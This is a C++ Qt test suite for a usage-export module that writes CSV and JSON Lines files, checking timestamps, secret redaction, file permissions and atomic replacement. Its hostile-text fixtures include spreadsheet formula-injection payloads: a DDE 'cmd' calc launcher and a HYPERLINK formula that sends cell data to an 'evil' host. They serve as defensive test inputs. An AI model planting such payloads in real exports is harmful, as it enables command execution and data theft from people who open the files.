// SPDX-FileCopyrightText: 2026 The Konstantly Keys authors
// SPDX-License-Identifier: MIT

#include "models/usage/usageexport.h"

#include "tests/support/unprivileged.h"

#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRandomGenerator>
#include <QTemporaryDir>
#include <QTest>

#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

using namespace Konstantly;
using namespace Konstantly::Tests;
using namespace Qt::StringLiterals;
using namespace std::chrono_literals;
using std::chrono::milliseconds;

namespace {

UsageRow row(const QString &tool, milliseconds at = 1'795'608'000'123ms)
{
    UsageRow row;
    row.call.at = at;
    row.call.key = u"key-1"_s;
    row.call.tool = tool;
    row.isFromAudit = true;
    return row;
}

//! Of which no source told anything but the time.
UsageRow untold(milliseconds at)
{
    UsageRow row;
    row.call.at = at;
    return row;
}

UsageRows rowsOf(const QList<UsageRow> &rows)
{
    return [rows](const std::function<bool(const UsageRow &)> &take) -> Result<> {
        for (const UsageRow &one : rows) {
            if (!take(one))
                break;
        }
        return {};
    };
}

bool never()
{
    return false;
}

QByteArray contentOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void put(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

QStringList namesIn(const QString &folder)
{
    return QDir(folder).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
}

//! By another program than ours. (Qt's reader of JSON drops U+FEFF.)
QJsonArray readBack(const QString &format, const QString &path)
{
    QProcess python;
    python.start(u"python3"_s,
                 {QStringLiteral(TESTS_DIR "/models/usage/readexport.py"), format, path});
    if (!python.waitForFinished(20'000) || python.exitCode() != 0)
        qWarning("%s", python.readAllStandardError().constData());
    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
}

//! What a reader of our files does with a field of text.
QString withoutApostrophe(const QString &field)
{
    return field.startsWith(u'\'') ? field.sliced(1) : field;
}

QStringList hostileTexts()
{
    QStringList texts{u"=cmd|'/c calc'!A1"_s,
                      u"=1+1"_s,
                      u"+1"_s,
                      u"-1"_s,
                      u"@SUM(A1)"_s,
                      u"\t=1"_s,
                      u"\r=1"_s,
                      u"\n=1"_s,
                      u" =1"_s,
                      u"   \u00a0=1"_s,
                      u"\u200b=1"_s,
                      u"\ufeff=1"_s,
                      u"\u3000＝1"_s,
                      u"＝1"_s,
                      u"＋1"_s,
                      u"－1"_s,
                      u"＠1"_s,
                      u"\"=1\""_s,
                      u"\" =1"_s,
                      u"'=1"_s,
                      u"''"_s,
                      u"'"_s,
                      u"a,b"_s,
                      u"a;b"_s,
                      u"a\"b"_s,
                      u"\"\""_s,
                      u"a\r\nb"_s,
                      u"a\nb"_s,
                      u"a\tb"_s,
                      u" a "_s,
                      u"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"_s,
                      u"\\"_s,
                      u"日本語"_s,
                      u"😀"_s,
                      u"\u202ea"_s,
                      u"\x1b[31m"_s,
                      u"−1"_s,
                      u"{\"a\":1}"_s,
                      u"</script>"_s,
                      u"null"_s};
    QRandomGenerator random(1);
    const QString letters = u"=+-@\t\r\n '\",;a1＝＠\u00a0\u200b\\"_s;
    for (int i = 0; i < 500; ++i) {
        QString text(1 + random.bounded(6), Qt::Uninitialized);
        for (QChar &c : text)
            c = letters[random.bounded(int(letters.size()))];
        texts << text;
    }
    return texts;
}

} // namespace

class tst_UsageExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void csvIsWhatTheFormatSays();
    void jsonLinesAreExact();
    void timesAreThoseOfTheCalendar();
    void hostileTextsAreReadBackAsTheyWere();
    void noFieldBeginsAFormula();
    void noTextIsToldFromAnotherByItsField();
    void hostileTextsAreExactInJsonLines();
    void secretsAreLeftOut();
    void aNulIsSpelledOut();
    void theFileIsPrivateAndItsDigestRight();
    void anEmptyExportIsAFile();
    void manyRowsComeWhole();
    void untilItIsFinishedTheOldFileStays();
    void cancellingLeavesNothing();
    void aChartIsAFileOfTheSameKind();
    void aFolderThatIsMissingIsNotMade();
    void aReaderThatFailsLeavesNothing();
    void aReadOnlyFolderLeavesTheOldFile();
    void aReadOnlyFileIsNotReplaced();
    void aFullDiskLeavesTheOldFile();

private:
    [[nodiscard]] QString path(const QString &name) const { return m_folder->filePath(name); }
    std::unique_ptr<QTemporaryDir> m_folder;
};

void tst_UsageExport::init()
{
    m_folder = std::make_unique<QTemporaryDir>();
    QVERIFY(m_folder->isValid());
}

void tst_UsageExport::csvIsWhatTheFormatSays()
{
    UsageRow full = row(u"create course, fast"_s);
    full.call.outcome = CallOutcome::RateLimitedAiKey;
    full.call.duration = 1234ms;
    full.call.client = u"claude-code"_s;
    full.isFromService = full.isFromDevice = true;
    const auto written = exportUsage(path(u"a.csv"_s), UsageExportFormat::Csv,
                                     rowsOf({full, untold(0ms)}), never);
    QVERIFY(written);
    QCOMPARE(written->rows, 2);
    QCOMPARE(contentOf(path(u"a.csv"_s)),
             "time,key,tool,outcome,duration_ms,client,sources\r\n"
             "2026-11-25T12:00:00.123Z,key-1,\"create course, fast\",rate-limited-ai-key,1234,"
             "claude-code,service audit device\r\n"
             "1970-01-01T00:00:00.000Z,,,,,,\r\n"_qba);
}

void tst_UsageExport::jsonLinesAreExact()
{
    UsageRow full = row(u"list"_s);
    full.call.outcome = CallOutcome::Succeeded;
    full.call.duration = 0ms;
    full.call.client = u"codex"_s;
    full.isFromDevice = true;
    QVERIFY(exportUsage(path(u"a"_s), UsageExportFormat::JsonLines, rowsOf({full, untold(1ms)}),
                        never));
    QCOMPARE(
        contentOf(path(u"a"_s)),
        R"({"time":"2026-11-25T12:00:00.123Z","key":"key-1","tool":"list","outcome":"succeeded",)"
        R"("durationMs":0,"client":"codex","sources":["audit","device"]})"
        "\n"
        R"({"time":"1970-01-01T00:00:00.001Z","key":null,"tool":null,"outcome":null,)"
        R"("durationMs":null,"client":null,"sources":[]})"
        "\n"_qba);
}

void tst_UsageExport::timesAreThoseOfTheCalendar()
{
    QRandomGenerator random(2);
    QList<UsageRow> rows{untold(1'835'481'599'999ms), untold(1'835'481'600'000ms), untold(-1ms)};
    for (int i = 0; i < 1000; ++i)
        rows << untold(milliseconds(qint64(random.generateDouble() * 4e12)));
    QVERIFY(exportUsage(path(u"a.csv"_s), UsageExportFormat::Csv, rowsOf(rows), never));
    const QByteArrayList lines = contentOf(path(u"a.csv"_s)).split('\n');
    QVERIFY(lines[1].startsWith("2028-02-29T23:59:59.999Z,"));
    QVERIFY(lines[2].startsWith("2028-03-01T00:00:00.000Z,"));
    QVERIFY(lines[3].startsWith("1969-12-31T23:59:59.999Z,"));
    for (qsizetype i = 0; i < rows.size(); ++i) {
        const QDateTime read = QDateTime::fromString(QString::fromLatin1(lines[i + 1].left(24)),
                                                     Qt::ISODateWithMs);
        QCOMPARE(read.toMSecsSinceEpoch(), qint64(rows[i].call.at.count()));
    }
}

void tst_UsageExport::hostileTextsAreReadBackAsTheyWere()
{
    QList<UsageRow> rows;
    for (const QString &text : hostileTexts()) {
        UsageRow one = row(text);
        one.call.client = text;
        rows << one;
    }
    QVERIFY(exportUsage(path(u"a.csv"_s), UsageExportFormat::Csv, rowsOf(rows), never));
    const QJsonArray read = readBack(u"csv"_s, path(u"a.csv"_s));
    QCOMPARE(read.size(), rows.size() + 1);
    for (qsizetype i = 0; i < rows.size(); ++i) {
        const QJsonArray fields = read[i + 1].toArray();
        QCOMPARE(fields.size(), 7);
        QCOMPARE(withoutApostrophe(fields[2].toString()), rows[i].call.tool);
        QCOMPARE(withoutApostrophe(fields[5].toString()), rows[i].call.tool);
        QCOMPARE(fields[1].toString(), u"key-1"_s);
        QCOMPARE(fields[6].toString(), u"audit"_s);
    }
}

void tst_UsageExport::noFieldBeginsAFormula()
{
    QList<UsageRow> rows;
    for (const QString &text : hostileTexts())
        rows << row(text);
    QVERIFY(exportUsage(path(u"a.csv"_s), UsageExportFormat::Csv, rowsOf(rows), never));
    const QJsonArray read = readBack(u"csv"_s, path(u"a.csv"_s));
    int neutralised = 0;
    for (const QJsonValue &line : read) {
        const QJsonArray fields = line.toArray();
        for (const QJsonValue &field : fields) {
            // Whatever a program may pass over in front.
            const QString text = field.toString();
            qsizetype at = 0;
            while (at < text.size()
                   && (text[at] == u'"' || text[at] == u' ' || text[at] == u'\u00a0'
                       || text[at] == u'\u3000' || text[at] == u'\u200b' || text[at] == u'\ufeff'))
                ++at;
            if (at < text.size())
                QVERIFY2(!u"=+-@\t\r\n＝＋－＠"_s.contains(text[at]), qPrintable(text));
            neutralised += text.startsWith(u'\'') ? 1 : 0;
        }
    }
    QVERIFY(neutralised > 200);
}

void tst_UsageExport::noTextIsToldFromAnotherByItsField()
{
    QSet<QByteArray> fields;
    QSet<QString> texts;
    for (const QString &text : hostileTexts()) {
        texts << text;
        fields << csvField(text);
    }
    QCOMPARE(fields.size(), texts.size());
    QCOMPARE(csvField(u"list_courses"_s), "list_courses"_qba);
    QCOMPARE(csvField(u"a-b"_s), "a-b"_qba);
    QCOMPARE(csvField(u"-b"_s), "'-b"_qba.prepend('"').append('"'));
}

void tst_UsageExport::hostileTextsAreExactInJsonLines()
{
    QList<UsageRow> rows;
    QStringList texts = hostileTexts();
    texts << QString(QChar(u'\0')) + u"x"_s;
    for (const QString &text : texts)
        rows << row(text);
    QVERIFY(exportUsage(path(u"a"_s), UsageExportFormat::JsonLines, rowsOf(rows), never));
    const QJsonArray read = readBack(u"jsonl"_s, path(u"a"_s));
    QCOMPARE(read.size(), rows.size());
    for (qsizetype i = 0; i < rows.size(); ++i)
        QCOMPARE(read[i][u"tool"].toString(), rows[i].call.tool);
}

void tst_UsageExport::secretsAreLeftOut()
{
    const QString secret = u"kmcp_"_s + QString(43, u'Z');
    UsageRow one = row(u"tool "_s + secret);
    one.call.client = secret;
    one.call.key = secret;
    for (const auto format : {UsageExportFormat::Csv, UsageExportFormat::JsonLines}) {
        QVERIFY(exportUsage(path(u"a"_s), format, rowsOf({one}), never));
        const QByteArray content = contentOf(path(u"a"_s));
        QVERIFY(!content.contains("ZZZZZ"));
        QCOMPARE(content.count("redacted"), 3);
        QVERIFY(content.contains("tool kmcp_"));
    }
}

void tst_UsageExport::aNulIsSpelledOut()
{
    QVERIFY(exportUsage(path(u"a.csv"_s), UsageExportFormat::Csv,
                        rowsOf({row(QString(QChar(u'\0')) + u"x"_s)}), never));
    QCOMPARE(readBack(u"csv"_s, path(u"a.csv"_s))[1][2].toString(), u"‹U+0000›x"_s);
}

void tst_UsageExport::theFileIsPrivateAndItsDigestRight()
{
    put(path(u"a"_s), "old");
    QVERIFY(chmod(qPrintable(path(u"a"_s)), 0644) == 0);
    const auto written = exportUsage(path(u"a"_s), UsageExportFormat::JsonLines,
                                     rowsOf({row(u"x"_s)}), never);
    QVERIFY(written);
    QCOMPARE(written->sha256, sha256(contentOf(path(u"a"_s))));
    struct stat status = {};
    QCOMPARE(stat(qPrintable(path(u"a"_s)), &status), 0);
    QCOMPARE(status.st_mode & 07777, 0600U);
    QCOMPARE(namesIn(m_folder->path()), QStringList{u"a"_s});
}

void tst_UsageExport::anEmptyExportIsAFile()
{
    const auto written = exportUsage(path(u"a"_s), UsageExportFormat::JsonLines, rowsOf({}), never);
    QVERIFY(written);
    QCOMPARE(written->rows, 0);
    QVERIFY(QFile::exists(path(u"a"_s)));
    QCOMPARE(written->sha256, sha256({}));
}

void tst_UsageExport::manyRowsComeWhole()
{
    constexpr int count = 30'000;
    UsageExport file(path(u"a"_s), UsageExportFormat::JsonLines);
    QVERIFY(file.open());
    for (int i = 0; i < count; ++i)
        QVERIFY(file.add(row(u"tool-%1"_s.arg(i), milliseconds(i))));
    QVERIFY(file.add(row(QString(200'000, u'x'))));
    const auto written = file.finish();
    QVERIFY(written);
    QCOMPARE(written->rows, count + 1);
    const QByteArray content = contentOf(path(u"a"_s));
    QCOMPARE(written->sha256, sha256(content));
    const QByteArrayList lines = content.split('\n');
    QCOMPARE(lines.size(), count + 2);
    for (int i = 0; i < count; i += 997)
        QVERIFY(lines[i].contains("\"tool-" + QByteArray::number(i) + '"'));
}

void tst_UsageExport::untilItIsFinishedTheOldFileStays()
{
    put(path(u"a"_s), "old");
    {
        UsageExport file(path(u"a"_s), UsageExportFormat::Csv);
        QVERIFY(file.open());
        for (int i = 0; i < 5000; ++i)
            QVERIFY(file.add(row(u"x"_s)));
        QCOMPARE(contentOf(path(u"a"_s)), "old"_qba);
        QCOMPARE(namesIn(m_folder->path()).size(), 2);
    }
    QCOMPARE(contentOf(path(u"a"_s)), "old"_qba);
    QCOMPARE(namesIn(m_folder->path()), QStringList{u"a"_s});
}

void tst_UsageExport::cancellingLeavesNothing()
{
    int asked = 0;
    const auto written = exportUsage(path(u"a"_s), UsageExportFormat::Csv,
                                     rowsOf(QList<UsageRow>(5000, row(u"x"_s))),
                                     [&asked] { return ++asked > 3000; });
    QVERIFY(!written && written.error().code == ErrorCode::Cancelled);
    QCOMPARE(asked, 3001);
    QCOMPARE(namesIn(m_folder->path()), QStringList());
}

void tst_UsageExport::aChartIsAFileOfTheSameKind()
{
    const auto written = exportChart(path(u"a"_s), "<svg/>", 12, never);
    QVERIFY(written);
    QCOMPARE(written->rows, 12);
    QCOMPARE(written->sha256, sha256("<svg/>"));
    QCOMPARE(contentOf(path(u"a"_s)), "<svg/>");
    const auto cancelled = exportChart(path(u"a"_s), "<other/>", 12, [] { return true; });
    QVERIFY(!cancelled && cancelled.error().code == ErrorCode::Cancelled);
    QCOMPARE(contentOf(path(u"a"_s)), "<svg/>");
    QCOMPARE(namesIn(m_folder->path()), QStringList{u"a"_s});
    QCOMPARE(exportChart(path(u"deep/er/a"_s), "<svg/>", 12, never).error().code,
             ErrorCode::FileNotWritable);
}

void tst_UsageExport::aFolderThatIsMissingIsNotMade()
{
    const auto written = exportUsage(path(u"deep/er/a"_s), UsageExportFormat::Csv,
                                     rowsOf({row(u"x"_s)}), [] { return false; });
    QVERIFY(!written);
    QCOMPARE(namesIn(m_folder->path()), QStringList());
}

void tst_UsageExport::aReaderThatFailsLeavesNothing()
{
    put(path(u"a"_s), "old");
    const auto written = exportUsage(
        path(u"a"_s), UsageExportFormat::Csv,
        [](const std::function<bool(const UsageRow &)> &take) -> Result<> {
            take(row(u"x"_s));
            return fail(ErrorCode::FileBusy);
        },
        never);
    QVERIFY(!written && written.error().code == ErrorCode::FileBusy);
    QCOMPARE(contentOf(path(u"a"_s)), "old"_qba);
    QCOMPARE(namesIn(m_folder->path()), QStringList{u"a"_s});
}

void tst_UsageExport::aReadOnlyFolderLeavesTheOldFile()
{
    put(path(u"a"_s), "old");
    QVERIFY(chmod(qPrintable(path(u"a"_s)), 0666) == 0);
    QVERIFY(chmod(qPrintable(m_folder->path()), 0555) == 0);
    const int code = unprivileged([this] {
        const auto written = exportUsage(path(u"b"_s), UsageExportFormat::Csv,
                                         rowsOf({row(u"x"_s)}), never);
        return written ? 0 : int(written.error().code);
    });
    QVERIFY(chmod(qPrintable(m_folder->path()), 0755) == 0);
    QCOMPARE(code, int(ErrorCode::FileNotWritable));
    QCOMPARE(contentOf(path(u"a"_s)), "old"_qba);
    QCOMPARE(namesIn(m_folder->path()), QStringList{u"a"_s});
}

void tst_UsageExport::aReadOnlyFileIsNotReplaced()
{
    put(path(u"a"_s), "old");
    QVERIFY(chmod(qPrintable(path(u"a"_s)), 0444) == 0);
    bool isRead = false;
    const auto written = exportUsage(
        path(u"a"_s), UsageExportFormat::Csv,
        [&isRead](const std::function<bool(const UsageRow &)> &) -> Result<> {
            isRead = true;
            return {};
        },
        never);
    QVERIFY(!written && written.error().code == ErrorCode::FileNotWritable);
    QVERIFY(!isRead); // refused before any work
    QCOMPARE(contentOf(path(u"a"_s)), "old"_qba);
}

void tst_UsageExport::aFullDiskLeavesTheOldFile()
{
    if (geteuid() != 0)
        QSKIP("only root can mount a small disk");
    const QString disk = path(u"disk"_s);
    QVERIFY(QDir().mkdir(disk));
    const pid_t child = fork();
    if (child == 0) {
        // In a name space of its own, so that the disk goes with it.
        if (unshare(CLONE_NEWNS) != 0
            || mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0
            || mount("tmpfs", qPrintable(disk), "tmpfs", 0, "size=64k") != 0)
            _exit(100);
        put(disk + u"/a"_s, "old");
        const auto written = exportUsage(disk + u"/a"_s, UsageExportFormat::Csv,
                                         rowsOf(QList<UsageRow>(5000, row(u"x"_s))), never);
        const bool isKept = contentOf(disk + u"/a"_s) == "old"
                            && namesIn(disk) == QStringList{u"a"_s};
        _exit(written ? 101 : !isKept ? 102 : int(written.error().code));
    }
    int status = 0;
    waitpid(child, &status, 0);
    QVERIFY(WIFEXITED(status));
    if (WEXITSTATUS(status) == 100)
        QSKIP("no mount name space here");
    QCOMPARE(WEXITSTATUS(status), int(ErrorCode::DiskFull));
}

QTEST_GUILESS_MAIN(tst_UsageExport)
#include "tst_usageexport.moc"
